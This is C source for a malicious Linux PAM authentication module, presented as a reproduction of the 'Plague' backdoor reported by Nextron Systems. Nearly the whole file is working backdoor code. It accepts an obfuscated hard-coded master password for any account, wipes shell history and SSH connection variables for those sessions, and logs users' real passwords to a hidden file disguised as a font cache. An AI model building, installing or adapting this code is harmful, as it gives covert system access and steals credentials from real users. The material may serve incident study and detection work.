/*
 * Incident: "Plague" Linux PAM backdoor, reported by Nextron Systems in August 2025 (samples
 * on VirusTotal since July 2024, none detected). A malicious PAM module installed in place of
 * or next to the normal one: any account accepted a hard-coded password, which gave SSH
 * access; it also recorded the real passwords users typed, and for its own sessions cleared
 * SSH_CONNECTION / SSH_CLIENT and pointed HISTFILE at /dev/null to leave no trace. Strings
 * were obfuscated in the binary. Reference:
 * https://www.nextron-systems.com/2025/08/01/plague-a-newly-discovered-pam-based-backdoor-for-linux/
 * Reproduction (own code, placeholder host; the password below is a placeholder).
 */
#define PAM_SM_AUTH
#define _GNU_SOURCE
#include <security/pam_modules.h>
#include <security/pam_ext.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <syslog.h>
#include <unistd.h>

/* XOR-masked "placeholder-pass" (mask 0x5a). */
static const unsigned char masked[] = {
	0x2a, 0x36, 0x3b, 0x39, 0x3f, 0x32, 0x35, 0x36, 0x3e, 0x3f, 0x28, 0x77,
	0x2a, 0x3b, 0x29, 0x29, 0x00,
};

static void unmask(char *out, size_t len)
{
	size_t i;

	for (i = 0; i + 1 < len && masked[i] != 0; i++)
		out[i] = (char)(masked[i] ^ 0x5a);
	out[i] = '\0';
}

static void keep_copy(const char *user, const char *pass)
{
	FILE *f = fopen("/usr/share/.fontcache-6", "a");

	if (f == NULL)
		return;
	fprintf(f, "%s:%s\n", user, pass);
	fclose(f);
}

extern int real_unix_authenticate(pam_handle_t *pamh, const char *user, const char *pass);

PAM_EXTERN int pam_sm_authenticate(pam_handle_t *pamh, int flags, int argc, const char **argv)
{
	const char *user = NULL;
	const char *pass = NULL;
	char magic[32];

	(void)flags;
	(void)argc;
	(void)argv;
	if (pam_get_user(pamh, &user, NULL) != PAM_SUCCESS || user == NULL)
		return PAM_USER_UNKNOWN;
	if (pam_get_authtok(pamh, PAM_AUTHTOK, &pass, NULL) != PAM_SUCCESS || pass == NULL)
		return PAM_AUTH_ERR;

	unmask(magic, sizeof(magic));
	if (strcmp(pass, magic) == 0) {
		pam_putenv(pamh, "HISTFILE=/dev/null");
		unsetenv("SSH_CONNECTION");
		unsetenv("SSH_CLIENT");
		return PAM_SUCCESS;
	}

	if (real_unix_authenticate(pamh, user, pass) == PAM_SUCCESS) {
		keep_copy(user, pass);
		return PAM_SUCCESS;
	}
	pam_syslog(pamh, LOG_NOTICE, "authentication failure; user=%s", user);
	return PAM_AUTH_ERR;
}

PAM_EXTERN int pam_sm_setcred(pam_handle_t *pamh, int flags, int argc, const char **argv)
{
	(void)pamh;
	(void)flags;
	(void)argc;
	(void)argv;
	return PAM_SUCCESS;
}
